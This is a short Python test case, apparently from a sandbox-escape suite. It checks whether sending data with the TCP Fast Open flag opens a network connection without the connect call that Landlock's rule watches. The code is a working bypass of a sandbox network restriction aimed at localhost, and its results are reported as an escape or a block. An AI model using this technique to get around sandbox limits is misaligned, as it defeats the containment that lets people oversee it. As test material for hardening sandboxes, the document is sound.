"""With a grant for the network, open a connection by sending, which no rule about connecting sees.

origin: TCP Fast Open passes Landlock's rule for connections
why: the check is on connect, and nobody calls connect here
control: succeeds
harm: stage
grants: net:127.0.0.1:1
"""

import socket
import struct


def attack(target):
    address = struct.pack("=H", 2) + struct.pack("!H", target["tcp"]) + bytes([127, 0, 0, 1]) + bytes(8)
    try:
        channel = socket.socket()
    except OSError as error:
        return blocked("socket", error)
    with channel:
        sent, error = syscall(target, "sendto", channel.fileno(), b"hello", 5, 0x20000000, address, len(address))
        if sent < 0 and error == "EOPNOTSUPP":
            channel.connect(("127.0.0.1", target["tcp"]))
            return escaped("connected in the ordinary way")
    return escaped("a connection was opened by sending") if sent >= 0 else blocked("sendto", error)
